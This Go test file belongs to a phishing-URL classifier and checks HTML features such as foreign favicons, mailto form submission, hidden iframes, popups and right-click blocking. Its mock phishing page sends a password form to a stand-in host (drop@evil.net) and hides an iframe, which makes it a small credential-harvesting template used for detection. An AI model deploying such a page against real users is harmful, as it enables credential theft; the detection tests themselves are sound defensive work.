package features

import (
	"errors"
	"strings"
	"testing"

	"urlguard/internal/urlnorm"
)

// Mock phishing page: foreign favicon, credential form posting to mail,
// right-click and popup scripts, hidden iframe.
const mockPhishingHTML = `
<html>
<head>
    <title>Verify your account</title>
    <link rel="shortcut icon" href="http://cdn.evil.net/favicon.ico">
    <link rel="stylesheet" href="http://cdn.evil.net/site.css">
    <script src="http://cdn.evil.net/kit.js"></script>
    <meta http-equiv="refresh" content="30">
</head>
<body onmouseover="window.status='paypal.com'">
    <img src="http://evil.net/logo.png">
    <img src="/local.png">
    <iframe src="http://evil.net/frame" width="0" height="0"></iframe>
    <form action="mailto:drop@evil.net" method="post">
        <input type="text" name="user">
        <input type="password" name="pass">
    </form>
    <a href="#">Home</a>
    <a href="javascript:void(0)">Account</a>
    <a href="http://evil.net/help">Help</a>
    <script>
        document.addEventListener("contextmenu", function(e) { e.preventDefault(); });
        window.open("http://evil.net/popup");
    </script>
</body>
</html>
`

// Mock benign page: everything local, one form posting to itself.
const mockBenignHTML = `
<html>
<head>
    <link rel="icon" href="/favicon.ico">
    <link rel="stylesheet" href="https://static.example.com/site.css">
    <script src="/app.js"></script>
</head>
<body>
    <img src="/logo.png">
    <form action="/search"><input name="q"></form>
    <a href="/about">About</a>
    <a href="https://www.example.com/contact">Contact</a>
    <a href="/docs">Docs</a>
    <a href="https://github.com/example">Source</a>
</body>
</html>
`

func content(t *testing.T, raw string, page *Page, fetchErr error) *Partial {
	t.Helper()
	u, err := urlnorm.Normalize(raw)
	if err != nil {
		t.Fatalf("Normalize(%q): %v", raw, err)
	}
	return AnalyzeContent(u, page, fetchErr)
}

func TestAnalyzeContent_Phishing(t *testing.T) {
	p := content(t, "http://www.example.com/login", &Page{StatusCode: 200, Body: mockPhishingHTML, RedirectCount: 4}, nil)

	expected := map[Name]Value{
		Favicon:           Phishing,
		RequestURL:        Phishing, // 5 of 6 resources are foreign
		URLOfAnchor:       Phishing,
		LinksInTags:       Phishing, // 3 of 3 linked tags are foreign
		SFH:               Legitimate,
		SubmittingToEmail: Phishing,
		AbnormalURL:       Legitimate,
		Redirect:          Phishing,
		OnMouseover:       Phishing,
		RightClick:        Phishing,
		PopUpWindow:       Suspicious,
		Iframe:            Phishing,
	}
	for name, want := range expected {
		if got := p.values[name]; got != want {
			t.Errorf("Feature '%s': got %d, want %d", name, got, want)
		}
	}
	if len(p.Fallbacks()) != 0 {
		t.Errorf("unexpected fallbacks: %v", p.Fallbacks())
	}
}

func TestAnalyzeContent_Benign(t *testing.T) {
	p := content(t, "https://www.example.com/", &Page{StatusCode: 200, Body: mockBenignHTML, RedirectCount: 1}, nil)

	expected := map[Name]Value{
		Favicon:           Legitimate,
		RequestURL:        Legitimate,
		URLOfAnchor:       Legitimate, // 1 of 4 anchors leaves the site
		LinksInTags:       Legitimate,
		SFH:               Legitimate,
		SubmittingToEmail: Legitimate,
		Redirect:          Legitimate,
		OnMouseover:       Legitimate,
		RightClick:        Legitimate,
		PopUpWindow:       Legitimate,
		Iframe:            Legitimate,
	}
	for name, want := range expected {
		if got := p.values[name]; got != want {
			t.Errorf("Feature '%s': got %d, want %d", name, got, want)
		}
	}
}

func TestAnalyzeContent_FormEdgeCases(t *testing.T) {
	tests := []struct {
		name    string
		body    string
		feature Name
		want    Value
	}{
		{"no forms", `<a href="/">x</a>`, SFH, Phishing},
		{"blank action", `<form action=""></form>`, SFH, Phishing},
		{"about blank", `<form action="about:blank"></form>`, SFH, Phishing},
		{"foreign action", `<form action="https://collector.net/p"></form>`, SFH, Suspicious},
		{"php mail call", `<form action="/send"><input value="mail(x)"></form>`, SubmittingToEmail, Phishing},
		{"no anchors", `<p>nothing</p>`, URLOfAnchor, Phishing},
		{"no resources", `<p>nothing</p>`, RequestURL, Suspicious},
		{"no linked tags", `<p>nothing</p>`, LinksInTags, Legitimate},
		{"no favicon", `<p>nothing</p>`, Favicon, Legitimate},
		{"button 2 handler", `<script>if (event.button == 2) {}</script>`, RightClick, Phishing},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := content(t, "http://example.com/", &Page{StatusCode: 200, Body: tt.body}, nil)
			if got := p.values[tt.feature]; got != tt.want {
				t.Errorf("%s = %d, want %d", tt.feature, got, tt.want)
			}
		})
	}
}

func TestAnalyzeContent_NoDocument(t *testing.T) {
	fetchErr := errors.New("connection refused")

	tests := []struct {
		name         string
		page         *Page
		fetchErr     error
		wantRedirect Value
	}{
		{"fetch failed", nil, fetchErr, Suspicious},
		{"not found", &Page{StatusCode: 404, RedirectCount: 2}, nil, Suspicious},
		{"server error after many hops", &Page{StatusCode: 500, RedirectCount: 5}, nil, Phishing},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := content(t, "http://example.com/", tt.page, tt.fetchErr)
			for _, name := range htmlFeatures {
				if got := p.values[name]; got != Suspicious {
					t.Errorf("%s = %d, want fallback 0", name, got)
				}
			}
			if got := p.values[Redirect]; got != tt.wantRedirect {
				t.Errorf("Redirect = %d, want %d", got, tt.wantRedirect)
			}

			reasons := 0
			for _, f := range p.Fallbacks() {
				if f.Reason == nil {
					t.Errorf("fallback for %s has no reason", f.Feature)
				}
				reasons++
			}
			if reasons < len(htmlFeatures) {
				t.Errorf("recorded %d fallbacks, want at least %d", reasons, len(htmlFeatures))
			}
		})
	}
}

func TestAnalyzeContent_AbnormalURL(t *testing.T) {
	tests := []struct {
		url  string
		want Value
	}{
		{"http://example.com/login", Legitimate},
		{"example.com/login", Legitimate},
		{"http://EXAMPLE.com/login", Phishing},
		{"http://Secure.Example.com/", Phishing},
	}
	for _, tt := range tests {
		t.Run(tt.url, func(t *testing.T) {
			p := content(t, tt.url, nil, nil)
			if got := p.values[AbnormalURL]; got != tt.want {
				t.Errorf("Abnormal_URL = %d, want %d", got, tt.want)
			}
		})
	}
}

func TestForeignRef(t *testing.T) {
	tests := []struct {
		ref  string
		want bool
	}{
		{"/img/a.png", false},
		{"img/a.png", false},
		{"https://example.com/a", false},
		{"https://cdn.example.com/a", false},
		{"//cdn.example.com/a", false},
		{"https://example.net/a", true},
		{"//evil.org/x.js", true},
		{"HTTP://EVIL.ORG/", true},
	}
	for _, tt := range tests {
		got, err := foreignRef(tt.ref, "www.example.com")
		if err != nil {
			t.Fatalf("foreignRef(%q): %v", tt.ref, err)
		}
		if got != tt.want {
			t.Errorf("foreignRef(%q) = %v, want %v", tt.ref, got, tt.want)
		}
	}
}

// Benchmark: go test -bench=AnalyzeContent ./internal/features
func BenchmarkAnalyzeContent(b *testing.B) {
	u, _ := urlnorm.Normalize("https://benchmark.example.com/login")
	page := &Page{StatusCode: 200, Body: strings.Repeat(mockPhishingHTML, 20)}

	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = AnalyzeContent(u, page, nil)
	}
}
